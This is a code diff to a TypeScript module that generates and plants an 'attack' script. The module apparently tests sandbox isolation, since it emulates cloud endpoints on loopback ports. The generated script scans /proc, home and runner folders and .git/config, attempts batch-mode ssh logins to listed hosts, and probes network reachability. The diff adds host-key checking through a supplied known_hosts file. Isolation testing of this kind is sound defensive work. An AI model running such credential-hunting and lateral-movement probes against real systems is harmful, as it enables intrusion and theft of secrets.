@@ -11,6 +11,8 @@ export interface Targets {
   readonly folders: readonly string[];
   readonly addresses: readonly string[];
   readonly logins: readonly string[];
+  /** Host keys of these, as known_hosts has them: whoever attacks has seen them. */
+  readonly knownHosts: string;
   /** Ports of loopback at which clouds are emulated. */
   readonly clouds: readonly number[];
 }
@@ -41,7 +43,7 @@ export function plant(folder: string, targets: Targets): void {
 /** Only what Node has, so that it runs wherever a program runs. */
 export const attack = (targets: Targets): string => `
 import { spawnSync } from "node:child_process";
-import { appendFileSync, readdirSync, readFileSync, statSync } from "node:fs";
+import { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { connect } from "node:net";
 import { dirname, join } from "node:path";
 
@@ -63,8 +65,10 @@ for (const pid of readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) lo
 for (const name of ["HOME", "RUNNER_TEMP"]) if (process.env[name]) look(process.env[name], 3);
 look(join(here, ".git/config"), 0);
 for (const folder of targets.folders) look(folder, 3);
+const known = join(here, "known_hosts");
+writeFileSync(known, targets.knownHosts);
 for (const login of targets.logins)
-  tell("ssh " + login, spawnSync("ssh", ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=3", login, "id"], { encoding: "utf8" }).stdout);
+  tell("ssh " + login, spawnSync("ssh", ["-o", "BatchMode=yes", "-o", "UserKnownHostsFile=" + known, "-o", "ConnectTimeout=3", login, "id"], { encoding: "utf8" }).output.join(""));
 const reach = (host, port) => new Promise((done) => {
   const socket = connect({ host, port, timeout: 3000 }, () => { tell("reached", host + ":" + port); socket.destroy(); done(); });
   socket.on("error", done).on("timeout", () => { socket.destroy(); done(); });
